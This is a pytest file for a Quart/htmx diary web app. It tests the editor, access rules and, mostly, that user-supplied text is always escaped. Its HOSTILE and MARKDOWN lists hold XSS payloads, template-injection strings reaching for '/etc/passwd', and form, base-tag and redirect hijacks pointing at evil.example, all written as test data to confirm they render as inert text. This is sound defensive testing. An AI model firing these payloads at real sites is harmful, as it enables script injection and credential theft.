"""Each page of entries: works, not there, signed out, invalid, without htmx; what is written is text."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit
from uuid import uuid4

import pytest
from quart import Quart

from tests.visiting import Answer, Browser, registered, sent

HTMX = {"HX_Request": "true"}
UID = str(uuid4())
PAGES = [
    "/entries/new",
    "/bin",
    "/bin/deletion",
    f"/entries/{UID}",
    f"/entries/{UID}/edit",
    f"/entries/{UID}/revisions",
]
WRITES = [
    ("POST", "/entries"),
    ("PUT", f"/entries/{UID}"),
    ("POST", f"/entries/{UID}"),
    ("DELETE", f"/entries/{UID}"),
    ("POST", f"/entries/{UID}/deletion"),
    ("POST", f"/entries/{UID}/restoration"),
    ("POST", f"/entries/{UID}/revisions/1/restoration"),
    ("POST", "/bin/deletion"),
]


@pytest.fixture
async def ann(app: Quart) -> Browser:
    return await registered(app, "Ann")


async def begun(browser: Browser, body: str, **fields: str) -> str:
    path = f"/entries/{uuid4()}"
    answer = await browser.put(path, {"body": body, "version": "0", **fields})
    assert answer.headers["X-Save"] == "saved", answer.text
    return path


# The editor


async def test_a_new_page_has_a_fresh_uid_and_version_0(ann: Browser) -> None:
    pages = [await ann.get("/entries/new?day=2024-05-31") for _ in range(2)]
    forms = [page.form_with("body") for page in pages]
    for form in forms:
        assert {name: form[name] for name in ("title", "body", "day", "tags", "mood", "version", "kind")} == {
            "title": "",
            "body": "",
            "day": "2024-05-31",
            "tags": "",
            "mood": "",
            "version": "0",
            "kind": "manual",
        }
        assert form["owner"].isdecimal()
    assert forms[0]["save"] != forms[1]["save"]
    actions = [re.search(r'action="(/entries/[0-9a-f-]{36})"', page.text) for page in pages]
    assert len({found[1] for found in actions if found}) == 2


async def test_what_the_editor_shows_can_be_sent_as_it_is(ann: Browser) -> None:
    path = await begun(ann, "\nwords\n\n", title="T", tags="a, b", mood="great", day="2020-02-29")
    form = (await ann.get(f"{path}/edit")).form(path)
    answer = await ann.post(path, sent(form))
    assert (answer.status, answer.headers["X-Save"]) == (303, "unchanged")


async def test_the_editor_keeps_no_fields_for_the_browser_to_restore(ann: Browser) -> None:
    """Else Back would show an old text beside a new version: a silent lost update."""
    path = await begun(ann, "words")
    for page in (await ann.get("/entries/new"), await ann.get(f"{path}/edit")):
        (form,) = re.findall(r'<form[^>]*method="post" action="/entries/[0-9a-f-]{36}"[^>]*>', page.text)
        assert 'autocomplete="off"' in form
        # Firefox puts a text back into a restored tab unless the field itself forbids it, over newer words.
        assert re.search(r'<textarea[^>]* autocomplete="off"', page.text)


async def test_htmx_may_ask_for_the_editor_as_a_link_or_as_a_page(ann: Browser) -> None:
    for headers in ({}, HTMX | {"HX_Boosted": "true"}):
        assert (await ann.get("/entries/new", **headers)).form_with("body")["version"] == "0"


async def test_the_whole_way_of_an_entry_goes_without_htmx(ann: Browser) -> None:
    page = await ann.get("/entries/new")
    path = re.search(r'action="(/entries/[0-9a-f-]{36})"', page.text)
    assert path
    page = await ann.post(path[1], sent(page.form(path[1]) | {"title": "One", "body": "first"}))
    page = await ann.get(page.headers["Location"])
    assert "first" in page.text
    page = await ann.get(f"{path[1]}/edit")
    page = await ann.post(path[1], sent(page.form(path[1]) | {"body": "second"}))
    assert page.headers["X-Version"] == "2"
    page = await ann.get((await ann.post(f"{path[1]}/deletion")).headers["Location"])
    assert "second" not in page.text
    (undo,) = re.findall(r'action="(/entries/[^"]+/restoration)"', page.text)
    page = await ann.get((await ann.post(undo)).headers["Location"])
    assert "second" in page.text


# Strangers, and whoever is signed out


async def test_what_is_not_there_is_not_found(ann: Browser) -> None:
    for path in PAGES[3:]:
        for headers in ({}, HTMX):
            answer = await ann.get(path, **headers)
            assert answer.status == 404
            assert "not yours" in answer.text
            assert ("<html" in answer.text) is not bool(headers)
    for method, path in WRITES[3:7]:
        for headers in ({}, HTMX):
            assert (await ann.ask(path, method, {}, **headers)).status == 404


async def test_signed_out_every_page_leads_to_the_sign_in(app: Quart) -> None:
    browser = Browser(app)
    for path in PAGES:
        answer = await browser.get(path)
        assert (answer.status, answer.headers["Location"]) == (303, f"/login?next={path}")
        assert (await browser.get(path, **HTMX)).status == 401


async def test_signed_out_nothing_is_written(app: Quart, ann: Browser) -> None:
    path = await begun(ann, "words")
    browser = Browser(app)
    for method, address in WRITES:
        for headers in ({}, HTMX):
            answer = await browser.ask(
                address.replace(f"/entries/{UID}", path), method, {"body": "x"}, **headers
            )
            assert answer.status == 401
            assert "/login" in answer.text
    assert "words" in (await ann.get(path)).text
    assert (await ann.get(f"{path}/edit")).form(path)["version"] == "1"


async def test_other_ways_of_asking_are_405(ann: Browser) -> None:
    for method, path in (("PUT", "/"), ("POST", "/"), ("GET", "/entries"), ("PATCH", f"/entries/{UID}")):
        answer = await ann.ask(path, method)
        assert answer.status == 405
        assert "Allow" in answer.headers
    for path in ("deletion", "restoration", "revisions/1/restoration"):
        assert (await ann.get(f"/entries/{UID}/{path}")).status == 405


async def test_a_method_can_not_be_written_into_a_form(ann: Browser) -> None:
    path = await begun(ann, "words", day="2024-05-31")
    for form in ({"_method": "DELETE"}, {"_method": "delete", "version": "1"}):
        await ann.post(path, form, X_HTTP_Method_Override="DELETE")
    assert "words" in (await ann.get("/")).text


# Whatever is written is text


class Markup(HTMLParser):
    """What of a page a browser would obey."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attributes}))

    def handle_data(self, data: str) -> None:
        self.text += data


OURS = {
    "a",
    "article",
    "b",
    "bdi",
    "body",
    "button",
    "datalist",
    "del",
    "details",
    "dialog",
    "div",
    "em",
    "fieldset",
}
OURS |= {
    "form",
    "h1",
    "h2",
    "h3",
    "h4",
    "head",
    "header",
    "html",
    "input",
    "ins",
    "label",
    "legend",
    "li",
    "link",
}
OURS |= {
    "main",
    "meta",
    "nav",
    "ol",
    "option",
    "p",
    "pre",
    "script",
    "section",
    "select",
    "span",
    "strong",
    "summary",
}
OURS |= {"textarea", "time", "title", "ul", "code", "br", "blockquote", "hr", "small", "kbd"}


def harmless(answer: Answer) -> bool:
    """No element, attribute or address on the page that is not ours."""
    for tag, attributes in Markup(answer.text).tags:
        assert tag in OURS, tag
        if tag == "script":
            assert attributes.get("src", "").startswith("/static/")
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            assert name not in ("style", "srcdoc", "formaction", "background", "ping"), name
            if name in ("href", "src", "action", "hx-get", "hx-post", "hx-put", "hx-delete"):
                assert urlsplit(value.strip()).scheme in ("", "http", "https", "mailto"), value
                assert not value.startswith(("//", "/\\", "javascript", "data")), value
    return True


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></p></div><iframe src=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "{{ 70007 * 70007 }}{% include '/etc/passwd' %}",
    "${70007*70007} <%= 70007*70007 %> #{70007*70007}",
    "<!-- <script>alert(1)</script> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<b>\u2066</b>\u0000<script\x00>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<div hx-get=/logout hx-trigger=load data-hx-get=/logout>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    '[x](JaVaScRiPt:alert(1) "t")',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| <script> | <b> |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "- [ ] <script>alert(1)</script>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "<div onclick=alert(1)>\n\n**bold**\n\n</div>",
]
RENDERED = {"img", "input", "sup", "table", "thead", "tbody", "tr", "th", "td", "s", "h5", "h6", "section"}


async def pages_of(browser: Browser, path: str, day: str) -> list[Answer]:
    paths = [path, f"{path}/edit", f"{path}/revisions", f"{path}/revisions?show=1", "/", f"/days/{day}"]
    return [await browser.get(page) for page in paths]


async def test_hostile_titles_tags_and_texts_are_text_in_every_place(ann: Browser) -> None:
    first = await begun(ann, "the neighbour", day="2023-01-01")
    for hostile in HOSTILE:
        path = await begun(ann, hostile, title=hostile, tags=hostile, day="2024-05-31")
        await ann.put(path, {"body": f"{hostile} again", "version": "1"})
        for answer in [*await pages_of(ann, path, "2024-05-31"), await ann.get(first)]:
            assert answer.status == 200
            assert harmless(answer)
            assert "4900980049" not in Markup(answer.text).text
        assert "<script>alert" not in (await ann.get(path)).text
        stale = {
            "title": hostile,
            "body": hostile + "!",
            "tags": hostile,
            "day": "2024-05-31",
            "version": "1",
        }
        conflict = await ann.post(path, stale)
        assert (conflict.status, harmless(conflict)) == (409, True)
        assert conflict.form(path)["body"] == (hostile + "!").replace("\0", "\ufffd") or "\0" in hostile
        invalid = await ann.post(
            path, stale | {"day": hostile, "mood": hostile, "version": hostile, "save": hostile}
        )
        assert (invalid.status, harmless(invalid)) == (422, True)
        other = await ann.post(path, stale | {"owner": hostile})
        assert (other.status, harmless(other)) == (409, True)
        await ann.post(f"{path}/deletion")
        assert harmless(await ann.get("/bin"))
        assert harmless(await ann.get(f"/?deleted={path[9:]}"))
        await ann.post("/bin/deletion")


def elements(answer: Answer) -> list[str]:
    assert answer.status == 200
    return [tag for tag, _ in Markup(answer.text).tags]


async def test_hostile_titles_and_tags_add_no_element_to_any_page(app: Quart) -> None:
    """However well-known it is: the page has the elements that it has for harmless ones, in their order."""
    expected: list[list[str]] = []
    for number, words in enumerate(["harmless", *HOSTILE]):
        browser = await registered(app, f"Ann{number}")
        path = await begun(browser, "body", title=words, tags=words, day="2024-05-31")
        found = [elements(answer) for answer in await pages_of(browser, path, "2024-05-31")]
        expected = expected or found
        assert found == expected, words


async def test_hostile_texts_add_no_element_where_they_are_not_rendered(app: Quart) -> None:
    expected: list[list[str]] = []
    for number, words in enumerate(["harmless", *HOSTILE, *MARKDOWN]):
        browser = await registered(app, f"Ann{number}")
        path = await begun(browser, words, day="2024-05-31")
        found = [elements(await browser.get(f"{path}/{page}")) for page in ("edit", "revisions")]
        expected = expected or found
        assert found == expected, words


async def test_the_words_of_hostile_texts_are_still_there_to_be_read(ann: Browser) -> None:
    for hostile in HOSTILE[:10]:
        path = await begun(ann, hostile, title=hostile, day="2024-05-31")
        text = " ".join(Markup((await ann.get(path)).text).text.split())
        assert " ".join(hostile.split()) in text


async def test_hostile_markdown_is_harmless_in_every_place(
    ann: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(f"{__name__}.OURS", OURS | RENDERED)
    for hostile in MARKDOWN:
        path = await begun(ann, hostile, day="2024-05-31")
        for answer in await pages_of(ann, path, "2024-05-31"):
            assert harmless(answer), hostile
            assert "evil.example/pixel" not in str(
                [attributes.get("src") for _, attributes in Markup(answer.text).tags]
            )


async def test_rendered_text_is_out_of_htmxs_reach(ann: Browser) -> None:
    path = await begun(ann, "words", day="2024-05-31")
    for answer in (await ann.get(path), await ann.get("/"), await ann.get("/days/2024-05-31")):
        for opening in re.findall(r'<div class="prose"[^>]*>', answer.text):
            assert "hx-disable" in opening
        assert 'class="prose"' in answer.text


async def test_a_hostile_name_is_text_in_every_place(app: Quart) -> None:
    for number, hostile in enumerate(HOSTILE[:8]):
        if "@" in hostile:
            continue
        browser = Browser(app)
        form = {"username": hostile, "email": f"a{number}@b.c", "password": "correct horse"}
        assert (await browser.post("/register", form)).status == 303
        for path in ("/", "/settings", "/settings/security", "/entries/new", "/bin"):
            assert harmless(await browser.get(path))
        browser.jar.clear()
        wrong = await browser.post("/login", {"username": hostile, "password": "wrong", "next": hostile})
        assert harmless(wrong)
        assert harmless(await browser.post("/register", form | {"password": "short"}))


async def test_no_page_has_a_script_or_a_style_within(ann: Browser) -> None:
    path = await begun(ann, "**words**", title="T", tags="a")
    for page in ("/", "/bin", "/settings", "/entries/new", path, f"/entries/{UID}", f"{path}/edit", "/login"):
        text = (await ann.get(page)).text
        assert not re.search(r"<style|\sstyle=|<script(?![^>]*\ssrc=)|\son[a-z]+=", text)
